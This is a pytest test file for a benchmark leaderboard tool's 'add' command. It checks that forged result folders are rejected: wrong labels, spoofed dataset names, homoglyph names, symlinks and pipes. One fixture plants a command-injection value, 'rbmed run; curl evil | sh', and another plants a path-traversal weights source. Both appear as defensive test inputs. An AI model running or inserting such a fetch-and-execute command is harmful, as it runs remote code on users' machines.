"""Results of a stranger's folder: `rbmed leaderboard add` refuses them in one line, and writes nothing then."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from helpers.command import invoke
from helpers.leaderboard import folder
from helpers.records import ladder_record, outcome

from robustbench_med.leaderboard.sources import test_split
from robustbench_med.leaderboard.sources.image_results import ImageResults, dumped
from robustbench_med.leaderboard.sources.test_split import TestSplit, named
from robustbench_med.records.record import Record
from robustbench_med.records.record import dumped as dumped_record

SAFE, MOVED = [True, False] * 8, [False, True] * 8
SPLIT = TestSplit(
    "d", "abc", "", "0" * 16, tuple(map(str, range(8))) * 2, ("a", "b") * 8, ("no", "yes"), 1, True, "CC0"
)
Facts = dict[str, Any]


def results(at: Path, record: Record, *images: ImageResults, change: Callable[[Facts], None] | None = None) -> Path:
    """A folder as `rbmed run` writes it, its record edited."""
    facts = json.loads(dumped_record(record))
    if change is not None:
        change(facts)
    (at / "samples").mkdir(parents=True)
    (at / "records.jsonl").write_text(json.dumps(facts) + "\n")
    for each in images:
        frame = pd.DataFrame({"index": each.index, "label": each.labels.astype(int), "draw": 0})
        for side, told in (("clean", each.clean[0]), ("attacked", each.attacked[0])):
            frame[f"{side}_prediction"], frame[f"{side}_rejected"] = told.astype(int), False
            frame[f"{side}_score"] = np.nan
        frame.to_parquet(at / "samples" / f"{each.cell_id}.parquet")
    return at


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A leaderboard with one cell, and the test split of its data set."""
    made = folder(tmp_path / "board", ladder_record("0", SAFE), outcomes=dumped(outcome("0", SAFE)) + "\n")
    test_split.write(made / "splits" / named(SPLIT), SPLIT)
    return made


def state(root: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in root.rglob("*") if path.is_file()}


def added(root: Path, out: Path) -> tuple[int, str]:
    told = invoke("leaderboard", "add", out, "--root", root, "--name", "x")
    return told.exit_code, told.output.strip()


def put(*path: str, value: Any) -> Callable[[Facts], None]:
    def edit(facts: Facts) -> None:
        place: Any = facts
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] = value

    return edit


NEW = outcome("1", SAFE)
OTHER = replace(NEW, labels=1 - NEW.labels, clean=1 - NEW.clean, attacked=1 - NEW.attacked)
FORGED: dict[str, tuple[Record, tuple[ImageResults, ...], Callable[[Facts], None] | None, str]] = {
    "other answers to the images of a cell that is there": (
        ladder_record("0", SAFE),
        (outcome("0", MOVED),),
        None,
        "cell 0 of .* is there with other per-image results .*; they are not edited",
    ),
    "no results of images": (ladder_record("1", SAFE), (), None, "has no per-image results"),
    "other labels than the data set": (ladder_record("1", SAFE), (OTHER,), None, "the label 1; in d it is 0"),
    "rows that the data set has not": (
        ladder_record("1", SAFE),
        (outcome("1", SAFE, start=1),),
        None,
        "has image 16; there are 16",
    ),
    "the name of another data set": (
        ladder_record("1", SAFE),
        (NEW,),
        put("dataset", "name", value="e"),
        "is said to be of e; the digest of its data set is that of d",
    ),
    "another partition": (
        ladder_record("1", SAFE),
        (NEW,),
        put("dataset", "partition", value="iid:clients=2"),
        "is said to be of d iid:clients=2; the digest",
    ),
    "a fold of a single split": (
        ladder_record("1", SAFE),
        (NEW,),
        put("dataset", "fold", value={"number": 0, "of": 3, "pool": "p"}),
        "is said to be of fold 0 of 3",
    ),
    "a share above one": (
        ladder_record("1", SAFE),
        (NEW,),
        put("metrics", "robust_accuracy", value=1.5),
        "robust_accuracy does not lie in its interval",
    ),
    "a share above one, without an interval": (
        ladder_record("1", SAFE),
        (NEW,),
        put("per_client", "a", "robust_accuracy", value=1.5),
        "a: robust_accuracy is 1.5, which is no share",
    ),
    "a name that looks alike": (
        ladder_record("1", SAFE, name="undefend\u0435d"),
        (NEW,),
        None,
        r"'undefend\\u0435d' is no name of a component",
    ),
    "a key of its own": (
        ladder_record("1", SAFE),
        (NEW,),
        put("provenance", "verified_by", value="M"),
        "the key 'provenance.verified_by' is none of a record",
    ),
    "a command that runs more": (
        ladder_record("1", SAFE),
        (NEW,),
        put("provenance", "command", value="rbmed run; curl evil | sh"),
        "is no command of rbmed alone",
    ),
    "weights of no place": (
        ladder_record("1", SAFE),
        (NEW,),
        put("defense", "weights", "source", value="hf:../../x@main"),
        "its weights are said to be from .* is no name on the hub",
    ),
}


@pytest.mark.parametrize(("record", "images", "change", "told"), FORGED.values(), ids=FORGED)
def test_a_forged_folder_is_not_added(
    root: Path,
    tmp_path: Path,
    record: Record,
    images: tuple[ImageResults, ...],
    change: Callable[[Facts], None] | None,
    told: str,
) -> None:
    before = state(root)
    code, said = added(root, results(tmp_path / "out", record, *images, change=change))
    assert code == 2
    assert re.search(told, " ".join(said.split())), said
    assert len(said.splitlines()) == 1
    assert state(root) == before


def test_an_honest_folder_is_added_once(root: Path, tmp_path: Path) -> None:
    out = results(tmp_path / "out", ladder_record("1", SAFE), NEW)
    assert added(root, out)[1].endswith("1 record and the outcomes of 1 cell added; next: rbmed leaderboard build")
    before = state(root)
    assert "0 records and the outcomes of 0 cells" in added(root, out)[1]
    assert state(root) == before


def test_nothing_is_written_where_a_file_of_the_folder_is_damaged(root: Path, tmp_path: Path) -> None:
    (root / "outcomes" / "x.jsonl").write_text("garbage\n")
    before = state(root)
    code, said = added(root, results(tmp_path / "out", ladder_record("1", SAFE), NEW))
    assert (code, "x.jsonl: line 1 is no outcome" in said) == (2, True), said
    assert state(root) == before


def test_links_and_pipes_are_not_followed(root: Path, tmp_path: Path) -> None:
    out = results(tmp_path / "out", ladder_record("1", SAFE))
    file = out / "samples" / "1.parquet"
    file.symlink_to(root / "claims.toml")
    assert "is a symbolic link" in added(root, out)[1]
    file.unlink()
    os.mkfifo(file)
    assert "it is a folder, a device or a link to nothing" in added(root, out)[1]
    (out / "samples").rename(tmp_path / "disk")
    (out / "samples").symlink_to(tmp_path / "disk")
    assert "out/samples is a symbolic link" in added(root, out)[1].replace("\n", "")
    (root / "outcomes").rename(tmp_path / "elsewhere")
    (root / "outcomes").symlink_to(tmp_path / "elsewhere")
    code, said = added(root, results(tmp_path / "two", ladder_record("1", SAFE), NEW))
    assert (code, "outcomes is a symbolic link" in said) == (2, True), said
    assert [path.name for path in (tmp_path / "elsewhere").iterdir()] == ["a.jsonl"]


def test_names_with_their_distribution_are_added(root: Path, tmp_path: Path) -> None:
    made = ladder_record("1", SAFE, name="Some-Lab.defenses/undefended")
    assert added(root, results(tmp_path / "out", made, NEW))[0] == 0
